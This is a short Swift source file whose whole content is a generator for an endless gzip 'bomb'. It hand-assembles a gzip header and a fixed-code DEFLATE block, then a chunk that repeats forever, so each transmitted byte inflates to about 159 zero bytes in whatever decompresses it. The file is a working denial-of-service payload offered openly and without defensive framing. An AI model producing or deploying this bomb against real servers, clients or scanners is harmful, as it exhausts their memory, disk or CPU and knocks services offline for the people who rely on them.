/// Packed bytes without an end: gzip (RFC 1952) around one block of DEFLATE with fixed codes (RFC 1951, section 3.2.6)
/// that says "a zero" once and "the last byte 258 times more" for ever. Each byte of it unpacks to 159.
enum GzipBomb {
  /// How it begins.
  static let start: [UInt8] =
    [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255] + packed(blockBegins + zero + again.prefix(beginning))
  /// What comes after it, again and again.
  static let rest: [UInt8] = packed(
    Array(repeating: again[beginning...] + again[..<beginning], count: 8).flatMap(\.self))

  /// The last block, with fixed codes.
  private static let blockBegins = [1, 1, 0]
  /// The literal 0.
  private static let zero = [0, 0, 1, 1, 0, 0, 0, 0]
  /// The length 258 and the distance 1.
  private static let again = [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0]
  /// So many bits of the first `again` fill the start to a whole byte.
  private static let beginning = 16 - blockBegins.count - zero.count

  /// The first bit is the lowest of the first byte.
  private static func packed(_ bits: [Int]) -> [UInt8] {
    stride(from: 0, to: bits.count, by: 8).map { byte in
      (0..<8).reduce(0) { $0 | UInt8(bits[byte + $1]) << UInt8($1) }
    }
  }
}
